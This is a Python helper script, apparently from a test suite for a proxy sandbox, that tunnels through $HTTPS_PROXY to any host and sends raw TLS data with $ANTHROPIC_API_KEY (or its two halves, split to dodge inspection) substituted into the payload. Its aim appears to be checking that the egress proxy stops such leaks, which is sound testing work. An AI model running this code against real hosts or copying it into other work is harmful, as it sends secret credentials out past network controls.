# Raw bytes over TLS, for the terminated-tunnel attacks (f_terminated.rs).
#
# tls_raw.py HOST PORT SNI CA PART [PART...]
#
# Opens a TCP connection through $HTTPS_PROXY with CONNECT HOST:PORT (or
# straight to HOST:PORT when no proxy is set: the unjailed control), makes a
# TLS connection with SNI (ALPN http/1.1) trusting CA ("env": $SSL_CERT_FILE;
# "system": the host's roots only), sends each PART in turn (0.3 s apart, so
# each is its own read and chunk), and prints `tls-ok` then whatever comes
# back, or `tls-error: ...`. In a PART, \r \n are escapes and {K}, {K1},
# {K2} stand for $ANTHROPIC_API_KEY and its two halves (split at 30).
import os
import socket
import ssl
import sys
import time

host, port, sni, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
key = os.environ.get("ANTHROPIC_API_KEY", "")
parts = []
for p in sys.argv[5:]:
    p = p.replace("{K1}", key[:30]).replace("{K2}", key[30:]).replace("{K}", key)
    parts.append(p.replace("\\r", "\r").replace("\\n", "\n").encode())
proxy = os.environ.get("HTTPS_PROXY", "")
if proxy:
    ph, pp = proxy.split("://", 1)[-1].rstrip("/").rsplit(":", 1)
    sock = socket.create_connection((ph, int(pp)), timeout=10)
    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        b = sock.recv(1)
        if not b:
            break
        head += b
    if b" 200" not in head.split(b"\r\n", 1)[0]:
        print("connect-refused:", head.split(b"\r\n", 1)[0].decode("latin-1"))
        sys.exit(0)
else:
    sock = socket.create_connection((host, port), timeout=10)
cafile = os.environ.get("SSL_CERT_FILE") if ca == "env" else "/etc/ssl/certs/ca-certificates.crt"
ctx = ssl.create_default_context(cafile=cafile)
ctx.set_alpn_protocols(["http/1.1"])
try:
    tls = ctx.wrap_socket(sock, server_hostname=sni)
except Exception as e:
    print(f"tls-error: {type(e).__name__}: {e}")
    sys.exit(0)
print("tls-ok", flush=True)
out = b""
try:
    for i, p in enumerate(parts):
        if i:
            time.sleep(0.3)
        tls.sendall(p)
    while True:
        chunk = tls.recv(65536)
        if not chunk:
            break
        out += chunk
except Exception as e:
    out += f"\n[{type(e).__name__}]".encode()
answer = out.decode("latin-1")
print(answer if answer else "[closed with no answer]")
